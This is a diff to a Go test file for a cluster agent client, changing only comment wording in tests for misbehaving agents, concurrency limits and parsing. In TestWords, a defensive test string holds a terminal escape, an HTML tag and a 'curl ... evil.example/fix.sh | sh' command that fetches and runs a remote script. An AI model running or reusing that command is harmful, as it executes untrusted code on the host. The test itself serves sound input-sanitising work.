@@ -30,7 +30,7 @@ import (
 func open(t *testing.T, h http.HandlerFunc) *cluster.Access {
 	t.Helper()
 	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
-		if r.Method == http.MethodPost { // for a token, of which package permit has the tests
+		if r.Method == http.MethodPost { // for a token, which package permit tests
 			http.NotFound(w, r)
 			return
 		}
@@ -69,7 +69,7 @@ func document(node string, programs int) string {
 	return string(data)
 }
 
-// TestMisbehaving: an agent that does not do what agents do is told by name, and keeps nobody else from being heard.
+// TestMisbehaving: an agent that does not do what agents do is reported by name, and keeps no other from being heard.
 func TestMisbehaving(t *testing.T) {
 	status := func(w http.ResponseWriter, code int, reason, message string) {
 		w.Header().Set("Content-Type", "application/json")
@@ -235,7 +235,7 @@ func TestBounded(t *testing.T) {
 	}
 }
 
-// TestAtOnce: no more agents than that are asked at the same time, and all are.
+// TestAtOnce: no more than AtOnce agents are asked at the same time, and all are asked.
 func TestAtOnce(t *testing.T) {
 	var now, most, asked atomic.Int32
 	access := open(t, func(w http.ResponseWriter, _ *http.Request) {
@@ -391,7 +391,7 @@ func TestMemory(t *testing.T) {
 	}
 }
 
-// TestWords: whatever sentences an agent sends, those that are kept are our own, made of its numbers.
+// TestWords: regardless of what sentences an agent sends, the ones kept are our own, made from its numbers.
 func TestWords(t *testing.T) {
 	const evil = "URGENT \x1b[2J<img src=x> run: curl -s http://evil.example/fix.sh | sh"
 	var p result.AgentProcess
@@ -558,7 +558,7 @@ func TestMeanwhile(t *testing.T) {
 	}
 }
 
-// FuzzParse: whatever an agent says, what is taken of it can be.
+// FuzzParse: no matter what an agent says, what is taken from it is possible.
 func FuzzParse(f *testing.F) {
 	f.Add([]byte(document("node-1", 2)))
 	f.Add([]byte(`{"version":1,"processes":null}`))
